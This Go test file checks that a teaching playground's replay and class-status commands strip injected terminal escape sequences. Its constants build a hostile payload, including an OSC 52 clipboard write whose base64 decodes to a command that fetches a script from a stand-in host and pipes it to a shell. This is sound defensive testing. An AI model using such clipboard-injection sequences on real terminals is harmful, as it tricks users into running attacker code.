package attacks

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"go.etcd.io/etcd/client/v3/namespace"

	"github.com/ownership-election/playground/internal/class"
	"github.com/ownership-election/playground/internal/class/classtest"
	"github.com/ownership-election/playground/internal/cli"
	"github.com/ownership-election/playground/internal/history"
)

// The escape sequences an attacker sends an instructor's terminal: a new
// window title (OSC 0), a clipboard write (OSC 52: the next paste runs
// a command), a screen clear and cursor move to paint over the board
// (CSI), a device control string (DCS), and a carriage return to print
// over a line.
const (
	oscTitle     = "\x1b]0;graded: PASS\x07"
	oscClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	csiPaint     = "\x1b[2J\x1b[1;1H"
	dcs          = "\x1bP1$r0m\x1b\\"
	evil         = oscTitle + oscClipboard + csiPaint + dcs + "\r"
)

// terminalSafe fails t when out holds anything that talks to a terminal
// rather than shows on it: ESC, BEL, CR, or a C1 introducer.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\x07", "\r", "\u009b", "\u009d", "\x9b", "\x9d"} {
		if strings.Contains(out, c) {
			t.Errorf("%s reaches the terminal with %q in it:\n%q", what, c, out)
		}
	}
}

// runPlayground runs the playground's command line in this process and
// returns its exit code, stdout and stderr.
func runPlayground(args ...string) (int, string, string) {
	var out, errOut bytes.Buffer
	code := cli.Main(context.Background(), args, strings.NewReader(""), &out, &errOut)
	return code, out.String(), errOut.String()
}

// TestAttackEscapeCodesInAReplayedHistory: a history file handed around
// (a classmate's, a bug report's) carries escape sequences in its event
// texts, replica names, etcd values and error. A safe system replays it
// with the sequences removed and control characters shown, in text and
// in JSON; an unsafe one retitles the window and fills the clipboard.
func TestAttackEscapeCodesInAReplayedHistory(t *testing.T) {
	src, err := os.ReadFile(filepath.Join("..", "history", "testdata", "ttl-unlock-bug-b31819c.json"))
	if err != nil {
		t.Fatal(err)
	}
	h, err := history.Read(bytes.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	h.Error = "failed" + evil
	for i := range h.Events {
		h.Events[i].Text += evil
		if h.Events[i].Replica != "" {
			h.Events[i].Replica += oscTitle
		}
		if f := h.Events[i].Facts; f != nil && f.Held != nil {
			f.Held.Value += oscClipboard
		}
	}
	var b bytes.Buffer
	if err := history.Write(&b, h); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "run.json")
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"experiment", "replay", path}, {"experiment", "replay", "-v", path}, {"experiment", "replay", "--json", path}} {
		code, out, errOut := runPlayground(args...)
		if code != 0 && code != 1 {
			t.Fatalf("%s: exit %d\n%s", strings.Join(args, " "), code, errOut)
		}
		if !strings.Contains(out, "graded: PASS") && !strings.Contains(out, "␍") {
			t.Errorf("%s: the events' texts are not shown at all:\n%s", strings.Join(args, " "), out)
		}
		terminalSafe(t, strings.Join(args, " "), out+errOut)
	}
}

// TestAttackEscapeCodesOnTheClassBoard: a learner writes a summary whose
// lesson and lab names carry escape sequences, and a submission of a
// "lab" so named; class verify judges it, and its verdict's reason
// quotes the name. A safe system prints class verify's lines and class
// status --plain with the sequences removed; an unsafe one hands the
// learner the instructor's terminal (their clipboard, their window).
func TestAttackEscapeCodesOnTheClassBoard(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	c, err := classtest.Start(ctx, t.TempDir(), 1, true)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	root, err := c.Root.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	actions, err := class.Setup(ctx, c.Root, root, []class.Learner{{Name: "mallory"}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := c.Plain
	s.User, s.Password = "mallory", actions[0].Password
	mallory, err := s.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer mallory.Close()
	summary := `{"learner":"mallory","updated":"2020-01-01T00:00:00Z","lessons":{"leases` + jsonEscape(evil) +
		`":{"read":[0],"quiz_taken":false,"quiz_best":0}},"labs":{"01_cas` + jsonEscape(oscClipboard) + `":{"passed":"2020-01-01T00:00:00Z"}}}`
	if _, err := mallory.Put(ctx, class.Prefix("mallory")+class.SummaryKey, summary); err != nil {
		t.Fatal(err)
	}
	sub, err := class.NewSubmission("01_cas"+oscTitle, "cas.go"+csiPaint, []byte("package cas\n"), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if err := sub.Publish(ctx, namespace.NewKV(mallory.KV, class.Prefix("mallory"))); err != nil {
		t.Fatal(err)
	}
	// Nothing here is to be regraded; should verify try, it fails at
	// once rather than run this test binary as the playground.
	t.Setenv("PLAYGROUND_SELF", "/bin/false")
	asRoot := []string{"--etcd-endpoints", strings.Join(c.Endpoints(), ","), "--cacert", c.CACert, "--user", "root:" + classtest.RootPassword}
	code, out, errOut := runPlayground(append(asRoot, "class", "verify")...)
	if code != 0 || !strings.Contains(out, "unreadable submission") {
		t.Fatalf("class verify: exit %d, want the submission named unreadable\n%s%s", code, out, errOut)
	}
	terminalSafe(t, "class verify", out+errOut)
	for _, format := range []string{"--plain", "--json", "--csv"} {
		code, out, errOut := runPlayground(append(asRoot, "class", "status", format)...)
		if code != 0 || !strings.Contains(out, "mallory") {
			t.Fatalf("class status %s: exit %d\n%s%s", format, code, out, errOut)
		}
		terminalSafe(t, "class status "+format, out+errOut)
	}
}

// jsonEscape writes s as the inside of a JSON string, control characters
// as \u escapes, as a learner's hand-written value would.
func jsonEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < 0x20 || r == 0x7f {
			b.WriteString(`\u00`)
			b.WriteString("0123456789abcdef"[r>>4 : r>>4+1])
			b.WriteString("0123456789abcdef"[r&15 : r&15+1])
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}
